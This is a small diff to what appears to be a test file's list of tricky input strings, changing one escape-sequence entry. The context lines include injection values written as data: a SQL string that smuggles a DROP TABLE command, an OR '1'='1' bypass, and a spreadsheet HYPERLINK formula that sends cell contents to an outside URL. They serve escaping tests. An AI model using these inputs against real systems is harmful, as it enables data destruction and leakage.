@@ -229,7 +229,7 @@ TEXTS = (
     "Robert'); DROP TABLE elevate.courses; --",
     "' OR '1'='1",
     "%s %(name)s %% {0} {name} $1 $$ :name ?",
-    "\\N",
+    "\\N and \\.",
     "\\.",
     "\\\\ \\x00 \\u0000 \\n \\t",
     '=HYPERLINK("http://example.com/"&A1,"x")',
